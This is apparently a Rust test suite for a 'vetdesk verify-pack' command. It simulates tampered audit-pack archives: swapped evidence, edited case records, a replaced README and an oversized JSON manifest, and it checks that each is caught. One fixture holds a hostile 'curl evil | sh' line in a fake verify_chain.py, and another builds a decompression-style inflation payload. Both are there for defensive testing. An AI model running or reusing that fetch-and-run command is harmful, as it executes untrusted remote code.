//! Audit packs attacked by someone who can rewrite the archive and knows how Vetdesk writes
//! it: every change is "re-signed" (manifest.json, SHA256SUMS and case.json made to agree), so
//! only checks against the audit chain and the bytes Vetdesk ships can catch it. Each attack
//! is run through `vetdesk verify-pack` as a process: exit 1, naming what was changed. A pack
//! whose JSON inflates past its size limit is refused (exit 2) with memory staying small.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{Cursor, Read, Write};
use std::path::Path;

use serde_json::{Value, json};
use vetdesk_export::pack;
use vetdesk_export::shipped;
use vetdesk_testkit::*;
use zip::CompressionMethod;
use zip::write::SimpleFileOptions;

#[derive(Clone)]
struct Entry {
    name: String,
    data: Vec<u8>,
    method: CompressionMethod,
}

fn sha(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

fn worked_pack() -> (Worked, Vec<Entry>) {
    let w = worked_case();
    let mut out = Cursor::new(Vec::new());
    pack::write_pack(&w.store, w.case_id, &options(), &mut out, &mut |_| {}).unwrap();
    let bytes = out.into_inner();
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let entries = (0..archive.len())
        .map(|i| {
            let mut f = archive.by_index(i).unwrap();
            let mut data = Vec::new();
            f.read_to_end(&mut data).unwrap();
            Entry { name: f.name().unwrap().to_string(), data, method: f.compression() }
        })
        .collect();
    (w, entries)
}

fn get<'a>(entries: &'a mut [Entry], name: &str) -> &'a mut Entry {
    entries.iter_mut().find(|e| e.name == name).unwrap()
}

fn json_of(entries: &mut [Entry], name: &str) -> Value {
    serde_json::from_slice(&get(entries, name).data).unwrap()
}

fn set_json(entries: &mut [Entry], name: &str, value: &Value) {
    get(entries, name).data = serde_json::to_vec_pretty(value).unwrap();
}

/// Makes manifest.json and SHA256SUMS agree with the members as they now are, as an attacker
/// who read Vetdesk's pack format would.
fn resign(entries: &mut [Entry]) -> Vec<u8> {
    let listed: Vec<Value> = entries
        .iter()
        .filter(|e| e.name != "manifest.json" && e.name != "SHA256SUMS")
        .map(|e| json!({"path": e.name, "sha256": sha(&e.data), "size": e.data.len()}))
        .collect();
    let mut manifest = json_of(entries, "manifest.json");
    manifest["members"] = Value::Array(listed);
    set_json(entries, "manifest.json", &manifest);
    let sums: String = entries
        .iter()
        .filter(|e| e.name != "SHA256SUMS")
        .map(|e| format!("{}  {}\n", sha(&e.data), e.name))
        .collect();
    get(entries, "SHA256SUMS").data = sums.into_bytes();
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for e in entries.iter() {
        zip.start_file(&e.name, SimpleFileOptions::default().compression_method(e.method)).unwrap();
        zip.write_all(&e.data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Runs `vetdesk verify-pack` on the bytes: (exit code, stdout, stderr).
fn verify_pack(dir: &Path, bytes: &[u8]) -> (i32, String, String) {
    let path = dir.join("pack.zip");
    std::fs::write(&path, bytes).unwrap();
    let o = vetdesk_command().arg("verify-pack").arg(&path).output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn the_untouched_pack_passes_and_a_merely_resigned_one_too() {
    let (w, mut entries) = worked_pack();
    let (code, out, err) = verify_pack(w.dir.path(), &resign(&mut entries));
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn swapped_evidence_is_caught_against_the_attach_records() {
    let (w, mut entries) = worked_pack();
    let old = entries.iter().find(|e| e.name.ends_with("-video-call-screenshot.jpg")).unwrap();
    let (old_name, old_sha) = (old.name.clone(), old.name[9..73].to_string());
    // A different screenshot, under its own hash, everywhere the pack names the file.
    let forged = photo(960, 540, 7, 80);
    let new_sha = sha(&forged);
    let new_name = format!("evidence/{new_sha}-video-call-screenshot.jpg");
    let e = get(&mut entries, &old_name);
    e.name = new_name.clone();
    e.data = forged.clone();
    let mut case = json_of(&mut entries, "case.json");
    for ev in case["evidence"].as_array_mut().unwrap() {
        if ev["sha256"] == old_sha.as_str() {
            ev["sha256"] = new_sha.clone().into();
            ev["size"] = forged.len().into();
            ev["pack_member"] = new_name.clone().into();
        }
    }
    set_json(&mut entries, "case.json", &case);
    let mut manifest = json_of(&mut entries, "manifest.json");
    for ev in manifest["evidence"].as_array_mut().unwrap() {
        if ev["sha256"] == old_sha.as_str() {
            ev["sha256"] = new_sha.clone().into();
            ev["member"] = new_name.clone().into();
        }
    }
    set_json(&mut entries, "manifest.json", &manifest);
    let (code, out, err) = verify_pack(w.dir.path(), &resign(&mut entries));
    assert_eq!(code, 1, "{out}{err}");
    for words in [
        format!("{new_name}: is not attached by any record of audit.jsonl (swapped or added)"),
        format!("{old_name}: is attached by audit.jsonl but missing from the pack"),
        format!("evidence E3: sha256 is \"{new_sha}\", but audit.jsonl replays to \"{old_sha}\""),
    ] {
        assert!(out.contains(&words), "{words}\n---\n{out}");
    }
}

#[test]
fn edited_case_data_is_caught_against_the_replayed_chain() {
    let (w, clean) = worked_pack();
    // (what is changed in case.json, words verify-pack must print)
    type Edit = fn(&mut Value);
    let rows: [(Edit, &str); 6] = [
        (
            |c| c["case"]["decision"] = "cleared".into(),
            "case.json: case: decision is \"cleared\", but audit.jsonl replays to \"rejected\"",
        ),
        (
            |c| c["case"]["decided_by"] = "cora".into(),
            "case: decided_by is \"cora\", but audit.jsonl replays to \"ivan\"",
        ),
        (
            |c| c["notes"][1]["text"] = "Second interview went well.".into(),
            "note 2: text is \"Second interview went well.\", but audit.jsonl replays to",
        ),
        (
            |c| {
                c["notes"].as_array_mut().unwrap().remove(0);
            },
            "note 1 is recorded in audit.jsonl but missing (removed)",
        ),
        (
            |c| {
                let item = c["checklist"]
                    .as_array_mut()
                    .unwrap()
                    .iter_mut()
                    .find(|i| i["result"] == "fail")
                    .unwrap();
                item["result"] = "pass".into();
            },
            ": result is \"pass\", but audit.jsonl replays to \"fail\"",
        ),
        (
            |c| {
                for f in c["verification"]["red_flags"].as_array_mut().unwrap() {
                    f["open"] = false.into();
                }
            },
            "red flags differ: case.json alone has [",
        ),
    ];
    for (edit, words) in rows {
        let mut entries = clean.clone();
        let mut case = json_of(&mut entries, "case.json");
        edit(&mut case);
        set_json(&mut entries, "case.json", &case);
        let (code, out, err) = verify_pack(w.dir.path(), &resign(&mut entries));
        assert_eq!(code, 1, "{words}: {out}{err}");
        assert!(out.contains(words), "{words}\n---\n{out}");
    }
}

#[test]
fn a_replaced_script_or_readme_is_named_and_not_to_be_run() {
    let (w, clean) = worked_pack();
    for (member, replacement) in [
        (
            "verify_chain.py",
            "import os\nos.system('curl evil | sh')\nprint('chain case:1: OK')\n".to_string(),
        ),
        ("README.txt", shipped::README_TXT.replace("do not run the script", "run the script")),
    ] {
        let mut entries = clean.clone();
        get(&mut entries, member).data = replacement.clone().into_bytes();
        let (code, out, err) = verify_pack(w.dir.path(), &resign(&mut entries));
        assert_eq!(code, 1, "{member}: {out}{err}");
        let words = format!(
            "{member}: is not the {member} Vetdesk {} ships: SHA-256 {}",
            env!("CARGO_PKG_VERSION"),
            sha(replacement.as_bytes())
        );
        assert!(out.contains(&words) && out.contains("do not run"), "{words}\n---\n{out}");
    }
    // The pack's copies are the published bytes, and the report prints their hashes.
    let mut entries = clean;
    assert_eq!(get(&mut entries, "verify_chain.py").data, shipped::VERIFY_CHAIN_PY.as_bytes());
    assert_eq!(get(&mut entries, "README.txt").data, shipped::README_TXT.as_bytes());
    let pdf = w.dir.path().join("report.pdf");
    std::fs::write(&pdf, &get(&mut entries, "report.pdf").data).unwrap();
    let text = tool("pdftotext", &[pdf.to_str().unwrap(), "-"]);
    let text: String = text.split_whitespace().collect();
    for hash in [shipped::VERIFY_CHAIN_PY_SHA256, shipped::README_TXT_SHA256] {
        assert!(text.contains(hash), "the report does not print {hash}");
    }
}

/// A few MB of pack whose manifest inflates to 48 MB of JSON: refused by its size limit before
/// it is parsed, with peak memory far below what parsing it would take.
#[test]
fn oversized_json_is_refused_and_memory_stays_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    zip.start_file("manifest.json", deflated).unwrap();
    // Numbers that compress about 3:1, so the bomb check does not stop it first.
    let mut state = 7u64;
    zip.write_all(b"{\"members\":[").unwrap();
    let mut written = 0;
    while written < 48 << 20 {
        state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        let chunk = format!("{},", state >> 40);
        written += chunk.len();
        zip.write_all(chunk.as_bytes()).unwrap();
    }
    zip.write_all(b"0]}").unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let path = dir.path().join("big.zip");
    std::fs::write(&path, &bytes).unwrap();
    let mut cmd = vetdesk_command();
    cmd.arg("verify-pack").arg(&path);
    let (ok, text, peak) = run_measuring_peak(cmd);
    println!("a {} MiB pack, 48 MiB manifest: peak {} MiB resident", bytes.len() >> 20, peak >> 10);
    assert!(!ok);
    assert!(text.contains("manifest.json") && text.contains("(size limit)"), "{text}");
    assert!(peak > 0 && peak < 64 * 1024, "peak {peak} KiB");
}
